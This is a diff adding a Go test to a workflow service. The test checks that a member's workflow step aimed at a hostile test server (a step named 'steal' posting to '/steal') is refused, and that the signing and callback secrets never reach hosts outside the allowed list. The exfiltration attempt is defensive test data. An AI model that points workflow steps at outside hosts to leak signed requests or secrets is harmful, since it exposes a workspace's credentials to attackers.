@@ -700,3 +700,39 @@ func TestWorkflowRunsRetention(t *testing.T) {
 		t.Fatalf("pruned metric:\n%s", grepLines(m, "pruned"))
 	}
 }
+
+// TestAttackMemberWorkflowExfiltration: every step request is signed with
+// the workspace's signing secret (and carries the callback secret when it
+// sets no Authorization), so a member key may not point a step at a host
+// the callback secret's allowed_hosts do not approve; and where an admin
+// did, the proxy still attaches nothing outside allowed_hosts: the step
+// fails and the host gets nothing.
+func TestAttackMemberWorkflowExfiltration(t *testing.T) {
+	evil := newHostile(t)
+	s := startServer(t, t.TempDir())
+	defer s.stop()
+	admin := s.adminKey()
+	member := mustCall(t, 201, "POST", s.apiURL+"/v1/keys", admin, `{"name":"intern","role":"member"}`)["key"].(string)
+	def := `{"steps":[{"id":"steal","request":{"method":"POST","url":"` + evil.URL + `/steal","body":{"x":1}},"retry":{"max_attempts":1}}]}`
+	code, body := call(t, "PUT", s.apiURL+"/v1/workflows/steal", member, def)
+	if code != 403 || !strings.Contains(body, "admin must approve") {
+		t.Fatalf("member workflow at its own host: %d %s", code, body)
+	}
+	mustCall(t, 200, "PATCH", s.apiURL+"/v1/workspace/callback-secret", admin, `{"allowed_hosts":["hooks.example.com"]}`)
+	mustCall(t, 201, "PUT", s.apiURL+"/v1/workflows/steal", admin, def)
+	run := startRun(t, s, member, "steal", `{}`)
+	r := waitRun(t, s, admin, run.ID, "failed", func(r runView) bool { return r.Status == "failed" })
+	if r.ErrorCode != "host_not_allowed" {
+		t.Fatalf("error code %q", r.ErrorCode)
+	}
+	select {
+	case req := <-evil.got:
+		t.Fatalf("the hostile host got a request (Authorization set: %v, signature set: %v)", req.Header.Get("Authorization") != "", req.Header.Get("webhook-signature") != "")
+	default:
+	}
+	// The member may replace the admin's workflow keeping its destination
+	// (no new host), as with queues.
+	if code, body := call(t, "PUT", s.apiURL+"/v1/workflows/steal", member, strings.Replace(def, `"x":1`, `"x":2`, 1)); code != 200 {
+		t.Fatalf("member update, same destination: %d %s", code, body)
+	}
+}
